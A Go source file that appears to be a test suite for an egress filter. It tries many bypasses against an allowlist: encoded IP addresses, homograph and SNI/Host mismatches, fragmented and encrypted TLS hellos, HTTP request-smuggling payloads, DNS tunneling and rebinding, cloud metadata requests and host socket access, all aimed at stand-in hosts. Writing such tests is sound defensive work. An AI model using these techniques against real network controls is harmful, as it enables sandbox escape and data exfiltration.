package main

import (
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"time"
)

// What is where outside. Rules open api.test, other.test, *.wild.test, and names that lead to
// loop, own, private and metadata addresses, at 443 and 80.
const (
	evil     = "evil.test"
	evilAt   = "203.0.114.66"
	resolver = "203.0.114.53" // of somebody else
)

// secure is a TLS request for a host, as browsers make one.
func secure(host string) string {
	conn, err := reach(host, 443)
	return get(conn, err, strings.TrimSuffix(host, "."), host)
}

// named is a TLS request for one host with the server name of another.
func named(host, server, header string) string {
	conn, err := reach(host, 443)
	return get(conn, err, server, header)
}

// plain sends a text to port 80 of api.test.
func plain(text string) func() string {
	return func() string {
		conn, err := reach("api.test", 80)
		if err != nil {
			return err.Error()
		}
		defer conn.Close()
		return talk(conn, text)
	}
}

func attacks() []attack {
	return slices.Concat(names(), insides(), others())
}

// names are attempts by names and by addresses.
func names() []attack {
	return []attack{
		{"an allowed name", says(mark, func() string { return secure("api.test") })},
		{"an allowed name in capitals", says(mark, func() string { return secure("API.Test") })},
		{"an allowed name with a trailing dot", says(mark, func() string { return named("api.test.", "api.test", "api.test") })},
		{"a denied name", says(mark, func() string { return secure(evil) })},
		{"NUL in a name", says(mark, func() string { return named(evil+"\x00.wild.test", evil, evil) })},
		{"user information in a name", says(mark, func() string { return named("api.test@"+evil, evil, evil) })},
		{"the apex of a wildcard", says(mark, func() string { return secure("wild.test") })},
		{"a name below an exact one", says(mark, func() string { return secure("x.api.test") })},
		{"a homograph", says(mark, func() string { return named("xn--pi-7tc.test", "xn--pi-7tc.test", evil) })},
		{"a homograph that is not encoded", says(mark, func() string { return named("аpi.test", evil, evil) })},
		{"an address", says(mark, func() string { return named(evilAt, evil, evil) })},
		{"an address, mapped", says(mark, func() string { return named("::ffff:"+evilAt, evil, evil) })},
		{"an address in decimal", says(mark, func() string { return named("3405803842", evil, evil) })},
		{"an address in hexadecimal", says(mark, func() string { return named("0xcb007142", evil, evil) })},
		{"an address in octal", says(mark, func() string { return named("0313.0.0161.0102", evil, evil) })},
		{"an address with an allowed server name", says(mark, func() string { return named(evilAt, "api.test", evil) })},
		{"DNS over HTTPS by address", says(mark, func() string { return named("1.1.1.1", "", "1.1.1.1") })},
		{"metadata by address", says(mark, func() string {
			conn, err := reach("169.254.169.254", 80)
			if err != nil {
				return err.Error()
			}
			defer conn.Close()
			return talk(conn, "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n")
		})},
		{"the host's loopback", says(hostMark, func() string { return named("127.0.0.1", "", "localhost") })},
		{"the host's own address", says(hostMark, func() string { return named("198.51.100.1", "", "localhost") })},
		{"an allowed name at the host's loopback", says(hostMark, func() string { return secure("loop.test") })},
		{"an allowed name at the host's own address", says(hostMark, func() string { return secure("own.test") })},
		{"an allowed name at a private address", says(mark, func() string { return secure("private.test") })},
		{"an allowed name at the metadata address", says(mark, func() string { return secure("metadata.test") })},
		{"rebinding", rebinding},
	}
}

// insides are attempts inside connections to an allowed name.
func insides() []attack {
	return []attack{
		{"an allowed name, another server name", says(mark, func() string { return named("api.test", evil, evil) })},
		{"an allowed name, another allowed server name", says(mark, func() string { return named("api.test", "other.test", "api.test") })},
		{"an allowed name, no server name", says(mark, func() string { return named("api.test", "", "api.test") })},
		{"no TLS at 443", says(mark, func() string {
			conn, err := reach("api.test", 443)
			if err != nil {
				return err.Error()
			}
			defer conn.Close()
			return talk(conn, "RAW\r\n")
		})},
		{"a TLS hello in single bytes, another server name", says(mark, func() string { return pieces(1, 0) })},
		{"a TLS hello in records of 50 bytes, another server name", says(mark, func() string { return pieces(0, 50) })},
		{"a slow TLS hello", says(mark, slow)},
		{"encrypted TLS hello, another outer name", says(mark, func() string { return encrypted("api.test", "front.test") })},
		{"encrypted TLS hello, allowed outer name", says(mark, func() string { return encrypted("api.test", "api.test") })},
		{"Host of another inside TLS", says(mark, func() string { return named("api.test", "api.test", evil) })},
		{":authority of another, HTTP/2", says(mark, func() string { return authority("api.test") })},
		{"another port", says(mark, func() string {
			conn, err := reach("api.test", 22)
			if err != nil {
				return err.Error()
			}
			defer conn.Close()
			return talk(conn, "")
		})},
		{"plain HTTP, Host of another", says("Host: "+evil, plain("GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))},
		{"plain HTTP, absolute form of another", says("GET http://"+evil, plain("GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"))},
		{"plain HTTP, two Hosts", says("Host: "+evil, plain("GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))},
		{"plain HTTP, a folded Host", says(`\r\n `+evil, plain("GET / HTTP/1.1\r\nHost: api.test\r\n evil.test\r\nConnection: close\r\n\r\n"))},
		{"plain HTTP, CONNECT", says("CONNECT "+evil, plain("CONNECT evil.test:443 HTTP/1.1\r\nHost: api.test\r\n\r\n"))},
		{"plain HTTP, another Host in a second request", says("Host: "+evil, plain("GET / HTTP/1.1\r\nHost: api.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))},
		{"smuggling, a length and chunks", says("Host: "+evil, plain("POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))},
		{"smuggling, two lengths", says("Host: "+evil, plain("POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))},
		{"smuggling, an unknown coding", says("Host: "+evil, plain("POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))},
	}
}

// others are attempts by datagrams, by packets of DNS, by sockets of the host, and by number.
func others() []attack {
	return []attack{
		{"UDP 53 elsewhere", resolves("udp", resolver+":53", evil)},
		{"TCP 53 elsewhere", resolves("tcp", resolver+":53", evil)},
		{"UDP 443", says(mark, func() string {
			answer, err := datagram(&net.UDPAddr{IP: net.ParseIP(evilAt), Port: 443}, []byte("x"))
			if err != nil {
				return err.Error()
			}
			return string(answer)
		})},
		{"a denied name over TCP", resolves("tcp", nameserver(), evil)},
		{"a loop in a DNS packet", packet(func() []byte {
			p := question(evil, typeA)
			return append(p[:12], 0xc0, 12, 0, 1, 0, 1)
		})},
		{"an oversized DNS packet", packet(func() []byte {
			p := question(evil, typeA)
			p[11] = 1 // one additional record: padding of EDNS
			p = append(p, 0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0xea, 0x60, 0, 12, 0xea, 0x5c)
			return append(p, make([]byte, 60000)...)
		})},
		{"two questions in a DNS packet", packet(func() []byte {
			p := question("api.test", typeA)
			p[5] = 2
			return append(p, question(evil, typeA)[12:]...)
		})},
		{"data in a denied name", tunnel(".evil.test", typeA)},
		{"data in a denied name, TXT", tunnel(".evil.test", typeTXT)},
		{"data in a name below a wildcard", tunnel(".wild.test", typeA)},
		{"data in a name below a wildcard, HTTPS", tunnel(".wild.test", typeHTTPS)},
		{"a path socket of the host", says(hostMark, func() string { return local("/run/paddock-bypass.sock") })},
		{"an abstract socket of the host", says(hostMark, func() string { return local("@paddock-bypass") })},
		{"a denied name after 10,000 connections", says(mark, many)},
		{"an allowed name after 10,000 connections", says(mark, func() string { return secure("api.test") })},
	}
}

// changes are attempts while rules are changed, or the process that keeps them ends.
func changes() []attack {
	var held net.Conn
	old := ""
	return []attack{
		{"a WebSocket after its rule was dropped", func() (bool, string) {
			var err error
			if held, err = reach("drop.test", 80); err != nil {
				return false, err.Error()
			}
			defer held.Close()
			_ = held.SetDeadline(time.Now().Add(time.Minute))
			_, _ = io.WriteString(held, "GET /ws HTTP/1.1\r\nHost: drop.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
			if got := echoed(held, "before"); !strings.Contains(got, "before") {
				return false, "there is none: " + got
			}
			if proxy() == nil {
				old, _ = lookup("udp", nameserver(), "drop.test", typeA)
			}
			ask("drop")
			got := echoed(held, "after")
			return strings.Contains(got, "after"), got
		}},
		{"a name whose rule was dropped", says(mark, func() string { return secure("drop.test") })},
		{"the address of a name that was dropped", says(mark, func() string {
			conn, err := direct(old, 443)
			return get(conn, err, "drop.test", "drop.test")
		})},
		{"the address of a dropped name, used for a new one", func() (bool, string) {
			at, err := lookup("udp", nameserver(), "new.test", typeA)
			if err != nil {
				return false, err.Error()
			}
			return at == old, at
		}},
		{"a denied name while egress is stopped", says(mark, func() string {
			ask("stop")
			return secure(evil)
		})},
		{"an address while egress is stopped", says(mark, func() string { return named(evilAt, evil, evil) })},
		{"an allowed name after egress was killed", says(mark, func() string {
			ask("kill")
			return secure("other.test")
		})},
		{"an address after egress was killed", says(mark, func() string { return named(evilAt, evil, evil) })},
		{"UDP 53 after egress was killed", resolves("udp", resolver+":53", evil)},
	}
}

// echoed sends a text and reads until it comes back or the connection ends.
func echoed(conn net.Conn, text string) string {
	if _, err := io.WriteString(conn, text); err != nil {
		return err.Error()
	}
	got, b := "", make([]byte, 4096)
	for !strings.HasSuffix(got, text) {
		n, err := conn.Read(b)
		if got += string(b[:n]); err != nil {
			return strings.ReplaceAll(got, text, "") + err.Error()
		}
	}
	return got
}

// rebinding connects to a name that leads to this host's loopback every other time.
func rebinding() (bool, string) {
	got := ""
	for range 6 {
		if got = secure("rebind.test"); strings.Contains(got, hostMark) {
			return true, got
		}
	}
	return false, got
}

// pieces sends a TLS hello for another host in segments or records of this size.
func pieces(segment, record int) string {
	conn, err := reach("api.test", 443)
	if err == nil {
		conn = &piecewise{Conn: conn, segment: segment, record: record}
	}
	return get(conn, err, evil, evil)
}

// piecewise cuts the first message of a connection.
type piecewise struct {
	net.Conn
	segment, record int
	done            bool
}

func (p *piecewise) Write(b []byte) (int, error) {
	if p.done {
		return p.Conn.Write(b)
	}
	p.done = true
	out := b
	if p.record > 0 && len(b) > 5 {
		out = nil
		for rest := b[5:]; len(rest) > 0; {
			n := min(p.record, len(rest))
			out = append(out, b[0], b[1], b[2])
			out = append(binary.BigEndian.AppendUint16(out, uint16(n)), rest[:n]...)
			rest = rest[n:]
		}
	}
	size := p.segment
	if size == 0 {
		size = len(out)
	}
	for len(out) > 0 {
		n := min(size, len(out))
		if _, err := p.Conn.Write(out[:n]); err != nil {
			return 0, err
		}
		out = out[n:]
	}
	return len(b), nil
}

// slow begins a TLS hello and never ends it: what does not say where it goes must be cut.
func slow() string {
	conn, err := reach("api.test", 443)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := conn.Write([]byte{22, 3, 1, 2, 0, 1}); err != nil {
		return err.Error()
	}
	got, err := io.ReadAll(conn)
	if ne, ok := err.(net.Error); ok && ne.Timeout() { //nolint:errorlint // of a connection, and not wrapped
		return mark + " it is open after 30 seconds"
	}
	return fmt.Sprint(len(got), " bytes, ", err)
}

// encrypted makes a TLS connection to a host whose inner hello names another host, and says
// whose certificate it gets.
func encrypted(host, outer string) string {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return err.Error()
	}
	var config []byte // ECHConfigContents
	config = append(config, 7, 0, 32)
	config = append(binary.BigEndian.AppendUint16(config, 32), key.PublicKey().Bytes()...)
	config = append(config, 0, 4, 0, 1, 0, 1, 0) // one suite: HKDF-SHA256 and AES-128-GCM; the name may have any length
	config = append(append(config, byte(len(outer))), outer...)
	config = append(config, 0, 0)
	config = append(binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(config))), config...)
	config = append(binary.BigEndian.AppendUint16(nil, uint16(len(config))), config...)
	conn, err := reach(host, 443)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	client := tls.Client(conn, &tls.Config{ServerName: evil, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: config,
		EncryptedClientHelloRejectionVerify: func(tls.ConnectionState) error { return nil }})
	err = client.Handshake()
	if _, rejected := err.(*tls.ECHRejectionError); rejected { //nolint:errorlint // it is not wrapped
		whose := "nobody"
		if chain := client.ConnectionState().PeerCertificates; len(chain) > 0 {
			whose = chain[0].Subject.CommonName
		}
		return mark + " a host has answered, " + whose + ": " + err.Error()
	}
	return fmt.Sprint(err)
}

// resolves asks a server for a name.
func resolves(network, server, name string) func() (bool, string) {
	return func() (bool, string) {
		at, err := lookup(network, server, name, typeA)
		if err != nil {
			return false, err.Error()
		}
		return true, at
	}
}

// packet sends a packet to where names are asked for, and then asks for a denied name: through
// is what is answered with an address.
func packet(of func() []byte) func() (bool, string) {
	return func() (bool, string) {
		p := of()
		for _, network := range []string{"udp", "tcp"} {
			answer, err := exchange(network, nameserver(), p)
			if err == nil && len(answer) > 12 && answer[3]&15 == 0 && answer[7] > 0 && strings.Contains(string(answer[12:]), "evil") {
				return true, "it has an address"
			}
		}
		return resolves("udp", nameserver(), evil)()
	}
}

// tunnel asks for a name that begins with data and then, at an allowed host, whether that was
// asked for outside.
func tunnel(below string, kind uint16) func() (bool, string) {
	return func() (bool, string) {
		name := strings.ToLower(rand.Text()) + below
		_, _ = lookup("udp", nameserver(), name, kind)
		got := plain("GET /asked?" + name + " HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")()
		return strings.Contains(got, mark+"asked"), got
	}
}

// local connects to a Unix socket.
func local(path string) string {
	conn, err := net.DialTimeout("unix", path, patience)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	return talk(conn, "x")
}

// many makes 10,000 connections to an allowed host, 50 at once, and then asks for a denied one.
func many() string {
	if proxy() != nil {
		return secure(evil) // a proxy of a peer's is not to be worn out
	}
	at, err := lookup("udp", nameserver(), "api.test", typeA)
	if err != nil {
		return err.Error()
	}
	var all sync.WaitGroup
	for range 50 {
		all.Go(func() {
			for range 200 {
				if conn, err := direct(at, 80); err == nil {
					_ = conn.Close()
				}
			}
		})
	}
	all.Wait()
	return secure(evil)
}
